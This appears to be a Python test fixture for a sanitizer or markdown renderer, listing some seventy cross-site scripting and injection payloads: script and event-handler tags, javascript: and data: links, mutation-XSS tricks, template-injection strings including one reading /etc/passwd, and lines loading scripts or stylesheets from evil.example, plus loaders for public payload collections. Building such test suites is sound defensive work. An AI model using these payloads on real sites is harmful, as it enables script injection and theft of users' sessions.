"""Markup that would run, fetch or mislead if a browser took it for markup; and where to find more beside the checkout."""

from __future__ import annotations

import json
from functools import lru_cache

from tests.trust.projects import HOSTILE

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/a.js></sCrIpT>",
    "</script><script>alert(2)</script>",
    "</title><script>alert(3)</script>",
    "</textarea></style></noscript><img src=x onerror=alert(4)>",
    "<!--><img src=x onerror=alert(5)>-->",
    "--!><svg onload=alert(6)>",
    "]]><img src=x onerror=alert(7)>",
    '"><img src=x onerror=alert(8)>',
    "'><img src=x onerror=alert(9)>",
    '" onmouseover=alert(10) x="',
    "' onfocus=alert(11) autofocus '",
    "` onclick=alert(12) `",
    "<img src=x onerror=alert(13)>",
    "<img/src/onerror=alert(14)>",
    "<img src='x'onerror=alert`15`>",
    "<svg><script>alert(16)</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(17) /><a><text y=9>go</text></a></svg>",
    "<svg><style><img src=x onerror=alert(18)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(19)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(20)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(21)>\">",
    "<iframe srcdoc='<script>alert(22)</script>'></iframe>",
    "<iframe src=javascript:alert(23)></iframe>",
    "<object data=javascript:alert(24)></object><embed src=javascript:alert(24)>",
    "<base href=//evil.example/><a href=page>go</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(25)'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import '//evil.example/a.css';*{background:url(//evil.example/b)}</style>",
    "<p style='background:url(//evil.example/c)' onclick=alert(26)>text</p>",
    "<form action=javascript:alert(27)><button>go</button></form>",
    "<input autofocus onfocus=alert(28)>",
    "<details open ontoggle=alert(29)>x</details>",
    "<video><source onerror=alert(30)></video>",
    "<body onload=alert(31)>",
    "<a href=javascript:alert(32)>go</a>",
    "<a href='jav&#x09;ascript:alert(33)'>go</a>",
    "<a href=' &#14;javascript:alert(34)'>go</a>",
    "<a href='&#106avascript:alert(35)'>go</a>",
    "<a href=data:text/html,%3Cscript%3Ealert(36)%3C/script%3E>go</a>",
    "<a id=createElement name=cookie>clobber</a><form id=location><input name=href>",
    "[go](javascript:alert(37))",
    "[go](java\tscript:alert(38))",
    "[go](JaVaScRiPt&colon;alert(39))",
    "[go](data:text/html;base64,PHNjcmlwdD5hbGVydCg0MCk8L3NjcmlwdD4=)",
    "[go](<javascript:alert(41)>)",
    "![a](javascript:alert(42))",
    "![a](//evil.example/p.png)",
    "![a](\\\\evil.example/p.png)",
    "![a](/\\evil.example/p.png)",
    "![a\" onerror=alert(43) x=\"](x)",
    "[go][1]\n\n[1]: javascript:alert(44) \"<img src=x onerror=alert(44)>\"",
    "<javascript:alert(45)>",
    "```\"><img src=x onerror=alert(46)>\ntext\n```",
    "| <img src=x onerror=alert(47)> |\n| --- |\n| <script>alert(47)</script> |",
    "[^1]\n\n[^1]: <img src=x onerror=alert(48)>",
    "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} <%= 7*7 %> {{< ref >}}",
    "{{ config.__class__.__mro__ }}{% for x in ().__class__.__bases__ %}x{% endfor %}",
    "\u2028alert(49)\u2029 \\u003cscript\\u003e <\\/script>",
    "\u202egnp.exe\u202c \u2066<b>\u2069 \u202e<script>alert(50)</script>",
    "\x1b[2J\x1b]0;owned\x07<img src=x onerror=alert(51)>",
    "＜script＞alert(52)＜/script＞ ‹img src=x onerror=alert(52)›",
    "+ADw-script+AD4-alert(53)+ADw-/script+AD4-",
    "<xss id=x tabindex=1 onfocus=alert(54) style=animation:a>",
    "<template><script>alert(55)</script></template><plaintext>",
    "&lt;img src=x onerror=alert(56)&gt; &amp;lt;script&amp;gt;alert(56)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(57)&#60;/script&#62;",
    "\\<img src=x onerror=alert(58)\\> \\`<script>alert(58)</script>\\`",
    "=HYPERLINK(\"javascript:alert(59)\",\"go\")",
    "{\"@context\":\"</script><script>alert(60)</script>\"}",
)


@lru_cache(maxsize=1)
def shared_payloads() -> tuple[str, ...]:
    """Return the payloads of three public collections; empty where they are not beside the checkout."""
    found: list[str] = []
    for name in ("dompurify", "owasp_filter_evasion", "miniflux"):
        path = HOSTILE / "xss" / f"{name}.jsonl"
        if path.exists():
            found += [json.loads(line)["payload"] for line in path.read_text("utf-8").splitlines() if line]
    return tuple(dict.fromkeys(found))


def naughty_strings() -> tuple[str, ...]:
    """Return the big list of naughty strings; empty where it is absent."""
    path = HOSTILE / "strings" / "blns.json"
    return tuple(json.loads(path.read_text("utf-8"))) if path.exists() else ()
